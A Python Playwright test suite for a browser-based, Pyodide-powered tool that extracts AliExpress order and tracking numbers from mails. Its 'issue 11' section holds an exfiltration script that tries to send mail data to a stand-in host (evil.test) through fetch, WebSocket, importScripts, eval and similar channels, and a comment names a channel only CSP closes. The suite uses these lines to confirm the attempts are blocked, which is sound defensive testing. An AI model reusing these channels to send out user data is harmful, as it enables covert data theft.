"""The order-number tool in real Chromium, over HTTP, in both languages.

Each test starts Python at most once per page (restoring the build's snapshot takes well under a
second) and runs many mails through it. Expected values are written here by hand.
"""

from __future__ import annotations

import gzip
import hashlib
import http.server
import io
import json
import re
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import brotli
import pytest
from playwright.sync_api import expect

from conftest import COLOR_SCHEMES, LANGUAGES, VIEWPORTS, describe_violations, page_url_path
from site_server import SiteHandler, read_headers_file

ROOT = Path(__file__).resolve().parent.parent
MAILS = ROOT / "tests" / "fixtures" / "mails"
TOOL_PAGE = {lang: page_url_path("ordernummer-ur-mejl.md", lang) for lang in LANGUAGES}
INPUT = '[data-testid="order-input"]'
SUBMIT = '[data-testid="order-submit"]'
FILE = 'input[type=file][data-testid="order-file"]'
STATUS = '[data-testid="order-status"]'
STATES = {"idle", "loading", "ready", "working", "done", "error"}
RUNTIME = "/assets/pyodide/"
STORED = "() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)].sort()"
SNAPSHOT = "/assets/order-tool/python-snapshot.bin"

# Records every state the status passes through, from before any page script runs.
STATE_RECORDER = """
window.__states = [];
document.addEventListener("DOMContentLoaded", () => {
  const status = document.querySelector('[data-testid="order-status"]');
  if (!status) return;
  window.__states.push(status.dataset.state);
  // Several changes in one task arrive together; each record's successor holds the value it set.
  new MutationObserver((records) => records.forEach((record, i) => window.__states.push(
    i + 1 < records.length ? records[i + 1].oldValue : status.dataset.state)))
    .observe(status, {attributes: true, attributeFilter: ["data-state"], attributeOldValue: true});
});
"""

TYPICAL = (
    "From: AliExpress <transaction@notice.aliexpress.com>\n"
    "Subject: Your order has shipped\n\n"
    "Order ID: 8123456789012345\n"
    "Tracking number: LP00123456789012\n"
    "Item: https://www.aliexpress.com/item/1005006123456789.html\n"
)
SWEDISH = "Hej!\n\nTack för din beställning.\nOrder ID: 8174523690147852\nBeställningsdatum: 12 nov 2026\n\nAliExpress\n"
NO_ORDER = "Hej, här är veckans nyhetsbrev från AliExpress. Rea på kablar hela veckan!\n"
# Another shop is known by its sender (issue 10), not by a bare word in the body.
NOT_ALIEXPRESS = "From: Zalando <info@zalando.se>\nHi, your Zalando order 12345678 has shipped. Tracking: RR123456785SE\n"

# name -> (text, order numbers, tracking numbers, product IDs, flagged as not AliExpress)
PASTED = {
    "typical": (TYPICAL, ["8123456789012345"], ["LP00123456789012"], ["1005006123456789"], False),
    "swedish": (SWEDISH, ["8174523690147852"], [], [], False),
    "two orders": ((MAILS / "40-en-two-orders.txt").read_text(encoding="utf-8"),
                   ["8987766554433221", "8976655443322110"], [], [], False),
    "no order": (NO_ORDER, [], [], [], False),
    "other shop": (NOT_ALIEXPRESS, [], ["RR123456785SE"], [], True),
}


# How the tool names a package ID it set aside, written here by hand.
SET_ASIDE_AS_PACKAGE = {"sv": "Paketets ID", "en": "A package ID"}


# ------------------------------------------------------------------------------------------ helpers


def open_tool(open_page, lang: str, **context_options):
    """The tool page with the state recorder installed; nothing on it touched yet."""
    watched = open_page(None, **context_options)
    watched.context.add_init_script(STATE_RECORDER)
    watched.dialogs = []
    watched.page.on("dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss()))
    watched.goto(TOOL_PAGE[lang])
    return watched


def python_requests(watched) -> list[str]:
    return [url for url in watched.requests if RUNTIME in url or SNAPSHOT in url]


def states(page) -> list[str]:
    return page.evaluate("window.__states")


# The tool says which start Python made (data-python) once it is ready.
PYTHON_STARTED = "() => document.querySelector('[data-order-tool]').dataset.python !== undefined"


def finished_runs(page) -> int:
    return sum(state in ("done", "error") for state in states(page))


def wait_for_run(page, before: int, timeout: float = 30_000) -> str:
    """Wait until a run after `before` finished runs has ended; return the state it ended in."""
    page.wait_for_function(
        "n => window.__states.filter(s => s === 'done' || s === 'error').length > n", arg=before, timeout=timeout
    )
    history = states(page)
    assert "working" in history[-2:], f"a run must pass through 'working': {history}"
    return history[-1]


def paste(page, text: str) -> str:
    """A real paste (clipboard + Ctrl+V) into the emptied textarea; waits for the run it starts."""
    page.evaluate("text => navigator.clipboard.writeText(text)", text)
    page.fill(INPUT, "")
    page.focus(INPUT)
    before = finished_runs(page)
    page.keyboard.press("ControlOrMeta+V")
    return wait_for_run(page, before)


def shown(page, testid: str) -> list[str]:
    """data-value of each visible result with this test id, in page order."""
    return page.eval_on_selector_all(
        f'[data-testid="{testid}"]', "els => els.filter(e => e.checkVisibility()).map(e => e.dataset.value)"
    )


def visible(page, selector: str) -> bool:
    return page.locator(selector).count() == 1 and page.locator(selector).is_visible()


def assert_results(page, orders, tracking, products, not_aliexpress) -> None:
    assert page.get_attribute(STATUS, "data-state") == "done"
    assert shown(page, "order-number") == orders
    assert sorted(shown(page, "tracking-number")) == sorted(tracking)
    assert sorted(shown(page, "product-id")) == sorted(products)
    assert visible(page, '[data-testid="order-none"]') == (not orders)
    assert visible(page, '[data-testid="not-aliexpress"]') == not_aliexpress
    for number in orders:  # a plain link to the order, built from the digits only
        href = f"https://www.aliexpress.com/p/order/detail.html?orderId={number}"
        assert page.locator(f'a[href="{href}"]').count() == 1


def assert_clean(watched) -> None:
    assert watched.console_errors == [], watched.console_errors
    # On a first visit the worker asks the HTTP cache alone for the snapshot (only-if-cached); the
    # miss is reported as a failed request. Any other failure, and any HTTP error, counts.
    failed = [entry for entry in watched.failed_requests if not re.fullmatch(rf"failed .*{SNAPSHOT}\?v=\w+", entry)]
    assert failed == [], failed
    assert watched.foreign_requests == [], watched.foreign_requests


# ------------------------------------------------------------------------------------------ the build


class _ToolMarkup(HTMLParser):
    """Collects, inside the tool's markup, the test ids, any on* attributes and javascript: URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.depth = 0
        self.testids: list[str] = []
        self.bad: list[str] = []
        self.lang = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "html":
            self.lang = values.get("lang") or ""
        if "data-order-tool" in values:
            self.depth = 1
        elif self.depth and tag not in ("input", "br", "img", "meta", "link"):
            self.depth += 1
        if self.depth:
            if "data-testid" in values:
                self.testids.append(values["data-testid"] or "")
            for name, value in attrs:
                if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                    self.bad.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.depth -= 1


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_tool_markup_is_in_the_built_page(site_dir: Path, lang: str) -> None:
    html = (site_dir / TOOL_PAGE[lang].strip("/") / "index.html").read_text(encoding="utf-8")
    parser = _ToolMarkup()
    parser.feed(html)
    assert parser.lang == lang
    assert sorted(parser.testids) == ["order-file", "order-input", "order-status", "order-submit"]
    assert parser.bad == []
    assert html.count('id="order-tool-strings"') == 1
    assert '<!-- order-tool -->' not in html
    assert re.search(r'data-testid="order-status" data-state="idle"', html)
    assert "<noscript>" in html
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1)
    for directive in ("connect-src 'self'", "worker-src 'self'", "'wasm-unsafe-eval'"):
        assert directive in csp


def unpack_zeros(packed: bytes) -> bytes:
    """The delta from the published file's zero-run form (snapshot-delta.mjs, unpackZeros), read
    apart from it: "\\0snz", the full length, then (offset, length, bytes) per run, the rest zeros."""
    assert packed[:4] == b"\0snz", "not a packed snapshot"
    size = int.from_bytes(packed[4:8], "little")
    memory = bytearray(size)
    position = 8
    runs = 0
    while position < len(packed):
        offset = int.from_bytes(packed[position:position + 4], "little")
        length = int.from_bytes(packed[position + 4:position + 8], "little")
        run = packed[position + 8:position + 8 + length]
        assert len(run) == length and offset + length <= size, "a run does not fit"
        memory[offset:offset + length] = run
        position += 8 + length
        runs += 1
    assert runs > 1
    return bytes(memory)


def undo_delta(delta: bytes, wasm: bytes) -> bytes:
    """The snapshot from its published delta: the memory XOR the wasm's active data segments.

    Written apart from snapshot-delta.mjs on purpose: the two readings of the format must agree,
    which the magic number and the test below (no folder names, so real memory) check.
    """
    assert delta[:4] == b"\0snx", "not a delta"

    def leb(position: int) -> tuple[int, int]:
        value = shift = 0
        while True:
            byte = wasm[position]
            position += 1
            value |= (byte & 0x7F) << shift
            shift += 7
            if byte < 0x80:
                return value, position

    memory = bytearray(delta)
    start = int.from_bytes(delta[4:8], "little")
    position = 8
    while position < len(wasm):
        section = wasm[position]
        size, position = leb(position + 1)
        if section == 11:
            count, cursor = leb(position)
            for _ in range(count):
                assert wasm[cursor:cursor + 2] == b"\x00\x41", "only active segments with a constant offset"
                offset, cursor = leb(cursor + 2)  # positive offsets: the signed form reads the same
                assert wasm[cursor] == 0x0B
                length, cursor = leb(cursor + 1)
                at = start + offset
                mixed = int.from_bytes(memory[at:at + length], "big") ^ int.from_bytes(wasm[cursor:cursor + length], "big")
                memory[at:at + length] = mixed.to_bytes(length, "big")
                cursor += length
        position += size
    memory[:4] = b"\0snp"
    return bytes(memory)


def test_runtime_and_extractor_are_shipped_once(site_dir: Path) -> None:
    runtimes = list((site_dir / "assets" / "pyodide").iterdir())
    assert len(runtimes) == 1 and re.fullmatch(r"[0-9a-f]{10}", runtimes[0].name), runtimes
    for name in ("pyodide.mjs", "pyodide.asm.mjs", "pyodide.asm.wasm", "python_stdlib.bin", "pyodide-lock.json"):
        assert (runtimes[0] / name).is_file(), name
    # Precompressed for hosts with gzip_static, and the same bytes once inflated.
    wasm = (runtimes[0] / "pyodide.asm.wasm").read_bytes()
    assert gzip.decompress((runtimes[0] / "pyodide.asm.wasm.gz").read_bytes()) == wasm
    # Brotli copies too (brotli_static), the same bytes once decoded.
    assert brotli.decompress((runtimes[0] / "pyodide.asm.wasm.br").read_bytes()) == wasm
    # The trimmed standard library has what the extractor needs and not much else (its size is
    # bytecode's: see test_tool_runtime.py).
    trimmed = io.BytesIO(gzip.decompress((runtimes[0] / "python_stdlib.bin").read_bytes()))
    with zipfile.ZipFile(trimmed) as archive:
        tops = {name.split("/")[0].removesuffix(".pyc") for name in archive.namelist()}
    assert {"email", "encodings", "html", "json", "re"} <= tops and not {"unittest", "xml", "http"} & tops
    assert not (site_dir / "en" / "assets").exists(), "the runtime must not be copied per language"
    # The package, byte for byte: in the worker's one zip, and as plain files for the code listing.
    package = ROOT / "snippets" / "order_number"
    source = {path.name: path.read_bytes() for path in package.glob("*.py")}
    assert {"__init__.py", "api.py", "cli.py", "__main__.py"} <= set(source)
    with zipfile.ZipFile(site_dir / "assets" / "order-tool" / "order_number.zip") as archive:
        packed = {name: archive.read(name) for name in archive.namelist()}
    assert {name: data for name, data in packed.items() if name.endswith(".py")} == {
        f"order_number/{name}": data for name, data in source.items()}
    # And each module's bytecode, a checked hash-based .pyc (flags 0b11: Python compares it with the
    # source's hash before using it); test_tool_runtime.py checks the hashes in Pyodide's Python.
    bytecode = {name: data for name, data in packed.items() if not name.endswith(".py")}
    assert sorted(bytecode) == sorted(f"order_number/__pycache__/{name.removesuffix('.py')}.cpython-314.pyc"
                                      for name in source)
    assert {int.from_bytes(data[4:8], "little") for data in bytecode.values()} == {0b11}
    plain = site_dir / "assets" / "order-tool" / "order_number"
    assert {path.name: path.read_bytes() for path in plain.iterdir()} == source
    packed = gzip.decompress((site_dir / "assets" / "order-tool" / "python-snapshot.bin").read_bytes())
    delta = unpack_zeros(packed)
    # Most of the memory is zeros, left out of the published file (a third of it is left).
    assert len(packed) < len(delta) / 2
    snapshot = undo_delta(delta, (runtimes[0] / "pyodide.asm.wasm").read_bytes())
    assert len(snapshot) > 1_000_000 and snapshot != delta
    # L1: the published snapshot names no folder of the machine that built it (looked for in the
    # memory itself: the delta hides whatever lies in the wasm's data segments).
    assert str(ROOT).encode() not in snapshot and b"order_tool_snapshot.mjs" not in snapshot

    tool_js = (site_dir / "assets" / "order-tool" / "tool.js").read_text(encoding="utf-8")
    worker_js = (site_dir / "assets" / "order-tool" / "worker.js").read_text(encoding="utf-8")
    assert not re.search(r"\.(inner|outer)HTML\s*=|insertAdjacentHTML|document\.write", tool_js)
    assert not re.search(r"(localStorage|sessionStorage|indexedDB|document\.cookie)\b\s*[.=\[]", tool_js)
    assert "jsdelivr" not in worker_js and "indexURL: runtime" in worker_js and "packageBaseUrl: runtime" in worker_js


def test_tool_css_and_assets_are_versioned_and_only_on_the_tool_page(site_dir: Path) -> None:
    tool_page = (site_dir / TOOL_PAGE["sv"].strip("/") / "index.html").read_text(encoding="utf-8")
    for name in ("tool.css", "tool.js"):
        assert re.search(rf'/assets/order-tool/{re.escape(name)}\?v=[0-9a-f]{{10}}"', tool_page), name
    assert re.search(r'"runtime": "\.\./assets/pyodide/[0-9a-f]{10}/"', tool_page)
    head = tool_page.split("</head>")[0]
    assert re.search(r'<link rel="stylesheet" href="\.\./assets/order-tool/tool\.css\?v=[0-9a-f]{10}">', head)
    assert '<div data-search-exclude><div class="order-tool" data-order-tool>' in tool_page
    for other in ("index.html", "hitta-ordernumret/index.html", "en/index.html"):
        assert "tool.css" not in (site_dir / other).read_text(encoding="utf-8"), other


# ------------------------------------------------------------------------------------------ the browser


def test_pages_without_the_tool_never_load_python(open_page) -> None:
    for path in ("/", "/en/", "/hitta-ordernumret/", "/en/spara-paketet/"):
        watched = open_page(path)
        page = watched.page
        page.mouse.move(200, 300)
        page.keyboard.press("Tab")
        page.keyboard.press("Tab")
        page.wait_for_timeout(300)
        assert python_requests(watched) == [], path
        assert not any(re.search(r"/assets/order-tool/(tool|worker)\.js", url) for url in watched.requests), path
        watched.context.close()


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_tool_end_to_end(open_page, axe_violations, lang: str) -> None:
    watched = open_tool(open_page, lang, permissions=["clipboard-read", "clipboard-write"])
    page = watched.page

    # Before intent: idle, and not one byte of Python fetched; only the worker (no Python in it) is
    # made, so that its download does not come between intent and Python's.
    assert page.get_attribute("html", "lang") == lang
    page.wait_for_timeout(700)
    assert page.get_attribute(STATUS, "data-state") == "idle"
    assert python_requests(watched) == []
    assert not any(re.search(r"/(pyodide\.mjs|order_number\.zip|snapshot-delta\.mjs)", url) for url in watched.requests)
    assert sum("/order-tool/worker.js" in url for url in watched.requests) == 1
    stored_before = page.evaluate(STORED)

    # Typing is intent; the button pressed long before Python is ready is queued, not lost.
    page.fill(INPUT, TYPICAL)
    assert page.get_attribute(STATUS, "data-state") == "loading"
    page.click(SUBMIT)
    assert wait_for_run(page, 0) == "done"
    assert_results(page, *PASTED["typical"][1:])
    history = states(page)
    assert history[:2] == ["idle", "loading"] and set(history) <= STATES, history
    assert history.index("working") > history.index("loading")
    assert any(re.search(rf"{RUNTIME}[0-9a-f]{{10}}/pyodide\.asm\.wasm$", url) for url in watched.requests)

    # Focus went to the results, which name where the number was found (the label in bold).
    assert page.evaluate("document.activeElement.classList.contains('order-tool__heading')")
    assert page.locator(".order-tool__evidence strong", has_text="Order ID").count() >= 1

    # Pasting runs by itself, every time; earlier results go away.
    for name, (text, *expected) in PASTED.items():
        assert paste(page, text) == "done", name
        assert_results(page, *expected)
    assert paste(page, SWEDISH) == "done"  # the same result as before still goes working -> done
    assert paste(page, SWEDISH) == "done"
    assert_results(page, *PASTED["swedish"][1:])

    # Tracking numbers link to the tracking page; the carrier is named.
    paste(page, TYPICAL)
    assert page.locator('a[href$="spara-paketet/"]').count() >= 1
    assert "Cainiao" in page.inner_text("[data-results]")
    violations = axe_violations(page)
    assert violations == [], describe_violations(violations)

    # Numbers set aside say what they are, so the reader knows why they are not the order number.
    paste(page, (MAILS / "27-en-package-ids.txt").read_text(encoding="utf-8"))
    others = page.locator(".order-tool__section", has=page.locator("li")).last.inner_text()
    assert SET_ASIDE_AS_PACKAGE[lang] in others, others

    # A raw .eml through the file input: its own charset (ISO-8859-1, quoted-printable) is honoured.
    before = finished_runs(page)
    page.set_input_files(FILE, str(MAILS / "10-sv-iso-8859-1-qp.eml"))
    assert wait_for_run(page, before) == "done"
    assert_results(page, ["8177665544332211"], [], [], False)
    before = finished_runs(page)
    page.set_input_files(FILE, str(MAILS / "05-en-order-confirmed-raw.eml"))
    assert wait_for_run(page, before) == "done"
    assert_results(page, ["8011223344556677"], [], ["1005005556667778", "4000123456789"], False)

    # The button runs on the file until the textarea is edited, then on the textarea.
    before = finished_runs(page)
    page.click(SUBMIT)
    assert wait_for_run(page, before) == "done"
    assert shown(page, "order-number") == ["8011223344556677"]
    page.fill(INPUT, SWEDISH)
    before = finished_runs(page)
    page.click(SUBMIT)
    assert wait_for_run(page, before) == "done"
    assert shown(page, "order-number") == ["8174523690147852"]

    # A file of another kind is refused; the textarea keeps its text through the error.
    before = finished_runs(page)
    page.set_input_files(FILE, files=[{"name": "photo.png", "mimeType": "image/png", "buffer": b"\x89PNG...."}])
    assert wait_for_run(page, before) == "error"
    assert page.input_value(INPUT) == SWEDISH
    assert shown(page, "order-number") == []

    # Hostile HTML is only ever text: no dialog, no element of the mail in the page.
    hostile = (MAILS / "45-hostile.html").read_text(encoding="utf-8") + '<b id="from-the-mail">x</b>'
    assert paste(page, hostile) == "done"
    assert_results(page, ["8180123456789012"], [], [], False)
    page.wait_for_timeout(200)
    assert watched.dialogs == []
    assert page.locator('#from-the-mail, img[src="x"], [onclick], svg script').count() == 0
    tags = page.eval_on_selector_all("[data-results] *", "els => [...new Set(els.map(e => e.tagName))]")
    assert set(tags) <= {"H2", "H3", "P", "DIV", "SECTION", "UL", "LI", "SPAN", "A", "BUTTON", "STRONG", "CODE"}

    # Nothing is stored by the tool (Material keeps its own few settings; those existed before).
    assert page.evaluate(STORED) == stored_before

    # After "ready" nothing more is needed from the network: cut it and extract again.
    requests_before = len(watched.requests)
    watched.context.set_offline(True)
    watched.context.route("**/*", lambda route: route.abort())
    assert paste(page, TYPICAL) == "done"
    assert_results(page, *PASTED["typical"][1:])
    before = finished_runs(page)
    page.set_input_files(FILE, str(MAILS / "18-ru-windows-1251.eml"))
    assert wait_for_run(page, before) == "done"
    assert shown(page, "order-number") == ["5098765432109876"]
    assert watched.requests[requests_before:] == []

    assert watched.dialogs == []
    assert_clean(watched)


def test_keyboard_only(open_page) -> None:
    watched = open_tool(open_page, "en", permissions=["clipboard-read", "clipboard-write"])
    page = watched.page
    for _ in range(80):  # Tab from the top of the page to the textarea
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.dataset.testid") == "order-input":
            break
    else:
        pytest.fail("the textarea cannot be reached with Tab")
    page.keyboard.type(SWEDISH)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.dataset.testid") == "order-file"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.dataset.testid") == "order-submit"
    before = finished_runs(page)
    page.keyboard.press("Enter")
    assert wait_for_run(page, before) == "done"
    assert shown(page, "order-number") == ["8174523690147852"]
    # Focus is on the results; the next Tab reaches the Copy button, and Enter copies.
    assert page.evaluate("document.activeElement.classList.contains('order-tool__heading')")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.classList.contains('order-tool__copy')")
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.querySelector('.order-tool__copied').textContent.length > 0")
    assert page.evaluate("navigator.clipboard.readText()") == "8174523690147852"
    # The status is a live region that was there from the start.
    assert page.get_attribute(STATUS, "role") == "status"
    assert_clean(watched)


def test_screenshots_and_axe_with_results(open_page, axe_violations, screenshot) -> None:
    # One page (and one Python start) per colour scheme; the result is then laid out at each size,
    # as in test_page_in_browser. Landing on a phone is test_result_is_brought_into_view_on_a_phone.
    for scheme in COLOR_SCHEMES:
        watched = open_tool(open_page, "sv", viewport=VIEWPORTS["desktop"], color_scheme=scheme,
                            permissions=["clipboard-read", "clipboard-write"])
        page = watched.page
        assert paste(page, TYPICAL) == "done"
        for size, viewport in VIEWPORTS.items():
            page.set_viewport_size(viewport)
            page.locator('[data-testid="order-number"]').scroll_into_view_if_needed()
            violations = axe_violations(page)
            assert violations == [], f"{size} {scheme}: {describe_violations(violations)}"
            # No sideways scrolling at phone width.
            assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1"), size
            screenshot(page, f"tool-sv-{size}-{scheme}")
        assert_clean(watched)
        watched.context.close()


# ------------------------------------------------------------------------------------------ every language

# A forwarded AliExpress mail as each language's reader would paste it from their own mail client
# (Gmail's "Videresendt melding", Apple Mail's "Videresendt besked", Gmail's "Välitetty viesti", ...).
# The expected numbers are the hand-written ones in expected.json.
FORWARDED = {
    "nb": "64-nb-gmail-videresendt-melding.txt",
    "da": "65-da-apple-videresendt-besked.txt",
    "fi": "66-fi-gmail-valitetty-viesti.txt",
}
EXPECTED = json.loads((MAILS / "expected.json").read_text(encoding="utf-8"))


# Swedish and English get the same and more in test_tool_end_to_end; here every other language.
@pytest.mark.parametrize("lang", [lang for lang in LANGUAGES if lang not in ("sv", "en")])
def test_tool_works_in_each_language(open_page, axe_violations, lang: str) -> None:
    """Result, error and accessibility on each language's tool page, with that reader's own mail."""
    watched = open_tool(open_page, lang, viewport=VIEWPORTS["phone"], permissions=["clipboard-read", "clipboard-write"])
    page = watched.page
    assert page.get_attribute("html", "lang") == lang
    strings = json.loads((ROOT / "overrides" / "order-tool" / "strings" / f"{lang}.json").read_text(encoding="utf-8"))
    assert json.loads(page.inner_text("#order-tool-strings")) == strings  # the page carries its own language's strings

    mail = FORWARDED[lang]
    expected = EXPECTED[mail]
    assert paste(page, (MAILS / mail).read_text(encoding="utf-8")) == "done"
    assert_results(page, expected["order_numbers"], expected["tracking_numbers"], expected["product_ids"], expected["not_aliexpress"])
    assert page.inner_text(STATUS) == strings["status_done_one"]
    heading = page.locator(".order-tool__heading")
    assert heading.inner_text() == strings["results_heading"]
    assert page.evaluate("document.activeElement.classList.contains('order-tool__heading')")
    expect(heading).to_be_in_viewport()  # brought into view (a smooth scroll: retried until it lands)
    violations = axe_violations(page)
    assert violations == [], describe_violations(violations)

    # An error in the reader's language: a file of the wrong type is refused before Python sees it.
    page.set_input_files(FILE, files=[{"name": "kvitto.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.4"}])
    page.locator(STATUS, has_text=strings["error_file_type"]).wait_for()
    assert page.get_attribute(STATUS, "data-state") == "error"
    assert page.input_value(INPUT) != ""  # the pasted mail stays
    violations = axe_violations(page)
    assert violations == [], describe_violations(violations)
    assert_clean(watched)


# ------------------------------------------------------------------------------------------ issue 9: a light page


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_tool_page_is_light_and_shows_the_code_when_opened(open_page, axe_violations, lang: str) -> None:
    watched = open_page(TOOL_PAGE[lang], viewport=VIEWPORTS["phone"])
    page = watched.page
    nodes = page.evaluate("document.getElementsByTagName('*').length")
    assert nodes < 1500, f"{nodes} elements before the reader opens anything"
    codes = page.locator("[data-source-code]")
    assert codes.all_inner_texts() == [""] * codes.count()  # not even fetched before the reader asks
    assert not any("order_number" in url for url in watched.requests)
    # No `pre > code` for Material's script to mount as the page loads (a copy button and size
    # watchers for each of ten hidden listings, about 120 ms of its load task on a slow phone).
    assert page.locator("[data-source] pre > code, [data-source] .md-clipboard").count() == 0
    page.locator("details", has=codes.first).locator("summary").click()
    # Every module of the package, in stage order (the order the hook lists them in), each in full.
    package = ROOT / "snippets" / "order_number"
    expected = {path.name: path.read_text(encoding="utf-8") for path in package.glob("*.py")}
    page.wait_for_function(
        "() => [...document.querySelectorAll('[data-source-code]')].every((c) => c.textContent.length > 100)"
    )
    shown = page.evaluate(
        """() => [...document.querySelectorAll('[data-source]')].map((block) => [
            block.querySelector('[data-source-link] code').textContent,
            block.querySelector('[data-source-code]').textContent])"""
    )
    # Each link is named by its file alone, so a screen reader's list of links tells them apart.
    link_names = page.eval_on_selector_all("[data-source-link]", "links => links.map((a) => a.textContent)")
    assert link_names == [name for name, _ in shown]
    assert [name for name, _ in shown] == [
        f"order_number/{name}" for name in ("__init__.py", "base.py", "result.py", "decoding.py", "normalizing.py",
                                            "finding.py", "reconciling.py", "api.py", "cli.py", "__main__.py")
    ]
    assert {name.removeprefix("order_number/"): code for name, code in shown} == expected
    # Each listing is a code block (its text in <code>, styled by Material): one box that scrolls
    # both ways and so can be reached with the keyboard, which axe checks too.
    listings = page.eval_on_selector_all(
        "pre[data-source-code] > code",
        """codes => codes.map((code) => [code.tabIndex, code.scrollHeight > code.clientHeight,
                                         code.parentElement.scrollHeight <= code.parentElement.clientHeight + 1])""",
    )
    assert len(listings) == len(expected)
    assert [tab_index for tab_index, _, _ in listings] == [0] * len(expected)
    assert listings[5][1:] == [True, True], "finding.py, the longest module, scrolls in its <code> alone"
    violations = axe_violations(page)
    assert violations == [], describe_violations(violations)
    assert python_requests(watched) == []  # reading the code starts no Python
    assert_clean(watched)


def test_result_is_brought_into_view_on_a_phone(open_page) -> None:
    watched = open_tool(open_page, "sv", viewport=VIEWPORTS["phone"], permissions=["clipboard-read", "clipboard-write"])
    page = watched.page
    assert paste(page, TYPICAL) == "done"
    # Scrolling may be smooth: wait for it to settle with the heading on screen, and focus on it.
    page.wait_for_function(
        """() => { const box = document.querySelector('.order-tool__heading').getBoundingClientRect();
                   return box.top >= 0 && box.bottom <= window.innerHeight; }""",
        timeout=5000,
    )
    assert page.evaluate("document.activeElement.classList.contains('order-tool__heading')")
    assert page.locator('[data-testid="order-number"]').is_visible()
    assert_clean(watched)


# ------------------------------------------------------------------------------------------ issue 11: any host

# Run in the worker, after Python is ready: every way Python (or JavaScript made by Python) could
# reach the network. Each must raise; none may send a request.
EXFILTRATION = r"""
import js, pyodide.http, pyodide.code
tried = {}
def attempt(name, action):
    try:
        action()
        tried[name] = "no error"
    except BaseException as error:
        tried[name] = type(error).__name__
def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", "http://evil.test/xhr", False)
    request.send()
attempt("js.fetch", lambda: js.fetch("http://evil.test/fetch?mail=secret"))
attempt("prototype fetch", lambda: js.Object.getPrototypeOf(js.self).fetch.call(js.self, "http://evil.test/proto"))
attempt("pyfetch", lambda: pyodide.http.pyfetch("http://evil.test/pyfetch").send(None))
attempt("open_url", lambda: pyodide.http.open_url("http://evil.test/open_url"))
attempt("XMLHttpRequest", xhr)
attempt("WebSocket", lambda: js.WebSocket.new("ws://evil.test/ws"))
attempt("EventSource", lambda: js.EventSource.new("http://evil.test/events"))
attempt("importScripts", lambda: js.importScripts("http://evil.test/script.js"))
attempt("Worker", lambda: js.Worker.new("http://evil.test/worker.js"))
attempt("eval import()", lambda: js.eval("import('http://evil.test/eval.mjs')"))
attempt("run_js", lambda: pyodide.code.run_js("fetch('http://evil.test/run_js')"))
attempt("Function", lambda: js.Function.new("return fetch('http://evil.test/function')")())
# Not tried: js.Function.new("return import('http://…')"). Pyodide needs Function, so the worker
# cannot refuse it; only a CSP header (site/_headers) closes that last path.
import json
json.dumps(tried)
"""

# Appended to worker.js for this test only: once Python is ready (and the network cut), run
# EXFILTRATION in the worker's own interpreter and post the report to the page, where RECORD_REPORT
# keeps it. (Playwright's worker.evaluate cannot be used: it needs eval, which the worker switched off.)
EXPOSE_PYTHON = """
self.addEventListener("message", (event) => {
  if (event.data.type !== "init") return;  // the worker's own listener has just set `started`
  started.then(() => setTimeout(() => {
    let json;
    try {
      json = self.__testPyodide.runPython(%s);
    } catch (error) {
      json = JSON.stringify({failed: String(error)});
    }
    self.postMessage({type: "exfiltration-test", json});
  }, 0));
});
"""
# Where worker.js makes its interpreter (a first visit starts plain), kept for the code above.
PLAIN_START = "const pyodide = await withEarlyFetches(options.stdLibURL, () => loadPyodide(options));"


def fulfill_changed(route, change) -> None:
    """Answer with the real response, its text changed (and so its length: no Content-Length)."""
    response = route.fetch()
    headers = {name: value for name, value in response.headers.items() if name.lower() != "content-length"}
    route.fulfill(status=response.status, headers=headers, body=change(response.text()))


RECORD_REPORT = """
window.__reports = [];
const PageWorker = window.Worker;
window.Worker = class extends PageWorker {
  constructor(...args) {
    super(...args);
    this.addEventListener("message", (event) => {
      if (event.data.type === "exfiltration-test") window.__reports.push(event.data.json);
    });
  }
};
"""


class _BareHandler(http.server.SimpleHTTPRequestHandler):
    """A host that sends no headers of its own: no CSP, as GitHub Pages does."""

    extensions_map = {**http.server.SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript",
                      ".js": "text/javascript", ".wasm": "application/wasm"}

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - stdlib signature
        pass


@pytest.fixture(scope="module")
def bare_server_url(site_dir: Path):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(_BareHandler, directory=str(site_dir)))
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_nothing_leaves_on_a_host_without_headers(browser, bare_server_url: str) -> None:
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    seen: list[str] = []
    context.on("request", lambda request: seen.append(request.url))  # pages and workers alike
    # Foreign requests must not even reach the router: the router would only hide a leak.
    appended = EXPOSE_PYTHON % json.dumps(EXFILTRATION)
    def expose(js: str) -> str:
        assert js.count(PLAIN_START) == 1, "worker.js changed: update PLAIN_START"
        return js.replace(PLAIN_START, PLAIN_START + " self.__testPyodide = pyodide;") + appended

    context.route("**/order-tool/worker.js*", lambda route: fulfill_changed(route, expose))
    page = context.new_page()
    page.add_init_script(RECORD_REPORT)
    with_config(page, {"snapshotPolicy": "never"})  # a plain start, where PLAIN_START keeps the interpreter
    page.add_init_script(STATE_RECORDER)
    response = page.goto(bare_server_url + TOOL_PAGE["en"], wait_until="load")
    assert "content-security-policy" not in response.headers
    assert paste(page, TYPICAL) == "done"
    page.wait_for_timeout(1500)  # anything sent asynchronously would show up by now
    reports = page.evaluate("window.__reports")
    assert len(reports) == 1, reports
